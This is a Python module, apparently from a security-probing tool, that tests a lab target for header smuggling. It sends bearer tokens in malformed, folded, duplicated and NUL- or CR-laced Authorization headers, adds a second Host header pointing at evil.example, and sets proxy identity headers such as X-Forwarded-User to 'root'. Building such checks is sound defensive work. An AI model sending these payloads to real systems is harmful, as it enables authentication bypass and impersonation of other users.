"""AP-HTP-02: credentials and identities in headers that two parsers read in two ways."""

from doorward.probe.attack import Attack
from doorward.probe.finding import Finding
from doorward.probe.lab import Lab
from doorward.probe.surface import Guarded, guarded, is_open_to_users, takes_anybody
from doorward.probe.trials import Trial, judged, ok
from doorward.probe.wire import Reply

_BENT = (
    ("an underscore for the hyphen", "X_Authorization: Bearer {token}", "Authorization_: Bearer {token}"),
    ("a space before the colon", "Authorization : Bearer {token}"),
    ("a tab before the colon", "Authorization\t: Bearer {token}"),
    ("a folded line", "X-A: b", " Authorization: Bearer {token}"),
    ("a folded value", "Authorization:", " Bearer {token}"),
    ("a bare line feed", "X-A: b\nAuthorization: Bearer {token}"),
    ("a bare carriage return", "X-A: b\rAuthorization: Bearer {token}"),
    ("a NUL in the name", "Authorization\x00: Bearer {token}"),
    ("a NUL in the value", "Authorization: Bearer {token}\x00"),
    ("a bad credential before the good one", "Authorization: Bearer nobody", "Authorization: Bearer {token}"),
    ("a bad credential after the good one", "Authorization: Bearer {token}", "Authorization: Bearer nobody"),
    ("two credentials in one line", "Authorization: Bearer nobody, Bearer {token}"),
    ("a second Host", "Authorization: Bearer {token}", "Host: evil.example"),
)
_IDENTITIES = (
    "X-User", "X-User-Id", "X-Forwarded-User", "X-Remote-User", "X-Auth-Request-User", "X-Amzn-Oidc-Identity",
    "X-Amzn-Bedrock-AgentCore-Runtime-User-Id", "X-Forwarded-Email", "X-Roles", "X-Forwarded-Groups",
)  # fmt: skip


class HeaderSmuggling(Attack):
    """A bent credential that is taken, or an identity header that changes who one is."""

    id = "AP-HTP-02"
    title = "Header smuggling"
    sources = ("RFC 9112 5", "CVE-2025-64484", "API8")
    does = "Sends a token in bent, folded and repeated headers, and names another identity in headers of proxies."
    mend = "Refuse repeated and folded headers, underscores and control characters; believe no identity header."

    async def control(self, lab: Lab) -> Finding | None:
        """The same request with one good Authorization header has to be answered."""
        return await is_open_to_users(lab)

    async def attack(self, lab: Lab) -> Finding:
        request, token = guarded(lab), (await lab.tokens()).access.reveal()
        open_door = await takes_anybody(lab)
        trials = []
        if open_door is None:
            for name, *lines in _BENT:
                reply = await _raw(lab, request, [line.format(token=token) for line in lines])
                trials.append(Trial(name, reply, ok(reply)))
        else:
            trials.append(Trial("no credential at all", open_door, through=True))
        trials += await _identities(lab, request)
        return await judged(
            lab,
            trials,
            held="No bent header was taken, and no identity header had an effect.",
            broken="A header that can be read in two ways was taken",
        )


async def _raw(lab: Lab, request: Guarded, lines: list[str]) -> Reply:
    own = [f"{name}: {value}" for name, value in request.headers]
    length = [f"Content-Length: {len(request.body)}"] if request.body else []
    data = request.head(*lines, *own, *length, "Connection: close") + b"\r\n" + request.body
    return await lab.wire.raw(request.origin, data, timeout=3.0, quiet=0.5)


async def _identities(lab: Lab, request: Guarded) -> list[Trial]:
    """Who one is must not change; only a who-am-I can say that."""
    if not lab.target.whoami:
        return []
    bearer = await lab.bearer()
    plain = await request.send(lab, [bearer])
    trials = []
    for name in _IDENTITIES:
        alone = await request.send(lab, [(name, "root")])
        beside = await request.send(lab, [bearer, (name, "root")])
        trials.append(Trial(f"{name} without a token", alone, ok(alone)))
        trials.append(Trial(f"{name} beside a token", beside, ok(beside) and beside.body != plain.body))
    return trials
